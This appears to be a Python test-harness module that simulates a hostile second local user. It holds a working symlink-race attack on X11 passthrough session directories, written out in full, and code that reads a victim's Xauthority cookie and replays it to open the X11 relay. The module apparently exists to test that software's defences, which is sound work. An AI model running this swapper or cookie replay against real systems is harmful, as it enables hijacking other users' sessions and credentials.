"""
Another local user who swaps fresh session directories for symlinks to directories of theirs.

A :class:`Swapper` is a real process of the second local user (:mod:`infra.users`) watching a
base directory with inotify. The moment a directory named ``x11passthrough-*`` appears, it
renames it away and puts a symlink to a fresh directory of its own (its "loot") in its place,
or that directory itself: two system calls. Asked to report, it says how many swaps it made,
which files the session's owner left in its loot, and whether a session cookie found there
opened the relay (an X11 connection setup on the relay's abstract socket, answered "Success").
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from .users import UserProgram, other_user


_SWAPPER = r"""
import ctypes, json, os, select, socket, struct, sys
base, how = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_CREATE, IN_ISDIR = 0x100, 0x40000000
watch = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
if watch < 0 or libc.inotify_add_watch(watch, base.encode(), IN_CREATE) < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
made = 0
def new_loot():
    global made
    made += 1
    path = os.path.join(base, f"loot-{made}")
    os.mkdir(path, 0o755)
    return path
loot = new_loot()
swapped, reported = [], 0

def cookie_of(data):
    # The first record of an Xauthority file: family, address, number, name, data.
    fields, at = [], 2
    for _ in range(4):
        (length,) = struct.unpack_from(">H", data, at)
        fields.append(data[at + 2 : at + 2 + length])
        at += 2 + length
    return fields[1].decode(), fields[3]

def admitted(number, cookie):
    name = b"MIT-MAGIC-COOKIE-1"
    message = struct.pack("<BxHHHH2x", 0x6C, 11, 0, len(name), len(cookie))
    message += name + bytes(-len(name) % 4) + cookie + bytes(-len(cookie) % 4)
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(f"\0/tmp/.X11-unix/X{number}")
        s.sendall(message)
        return s.recv(1) == b"\1"

def report():
    global reported
    files, cookies, opened = [], 0, 0
    for place in swapped[reported:]:
        for root, dirs, names in os.walk(place):
            files += [os.path.relpath(os.path.join(root, n), place) for n in dirs + names]
        try:
            with open(os.path.join(place, "Xauthority"), "rb") as f:
                number, cookie = cookie_of(f.read())
        except OSError:
            continue
        cookies += 1
        try:
            opened += admitted(number, cookie)
        except OSError:
            pass
    new, reported = len(swapped) - reported, len(swapped)
    return {"swaps": new, "files": files, "cookies": cookies, "opened": opened}

print(json.dumps({"uid": os.getuid()}), flush=True)
while True:
    ready, _, _ = select.select([watch, sys.stdin], [], [])
    if watch in ready:
        try:
            events = os.read(watch, 65536)
        except BlockingIOError:
            events = b""
        while events:
            _, mask, _, length = struct.unpack_from("iIII", events)
            name = events[16 : 16 + length].split(b"\0", 1)[0].decode()
            events = events[16 + length :]
            if not (mask & IN_ISDIR and name.startswith("x11passthrough-")):
                continue
            path = os.path.join(base, name)
            try:
                os.rename(path, path + ".moved")
                if how == "symlink":
                    os.symlink(loot, path)
                else:
                    os.rename(loot, path)
                    loot = path
            except OSError:
                continue
            swapped.append(loot)
            loot = new_loot()
    if sys.stdin in ready:
        if not sys.stdin.readline():
            break
        print(json.dumps(report()), flush=True)
"""


@dataclass
class SwapReport:
    """What a swapper did since its last report."""

    #: Session directories it swapped for a symlink to its loot.
    swaps: int
    #: What the session's owner made in its loot (paths relative to the loot).
    files: list[str]
    #: Session authority files it could read there.
    cookies: int
    #: Cookies found there that opened the relay.
    opened: int


class Swapper(UserProgram):
    """
    A process of the second local user swapping session directories in `base`.

    `base` must be writable by that user (theirs, or writable by all without the sticky bit).
    `how`: ``"symlink"`` puts a symlink to its loot in the session directory's place,
    ``"directory"`` its loot directory itself.
    """

    def __init__(self, base: Path, *, how: str = "symlink") -> None:
        super().__init__("swapper", _SWAPPER, str(base), how)
        assert self.started["uid"] == other_user().pw_uid

    def report(self) -> SwapReport:
        """Return what it did since the last report."""
        self.tell("report")
        answer = self.answer()
        files = answer["files"]
        assert isinstance(files, list)
        return SwapReport(
            swaps=int(str(answer["swaps"])),
            files=[str(f) for f in files],
            cookies=int(str(answer["cookies"])),
            opened=int(str(answer["opened"])),
        )
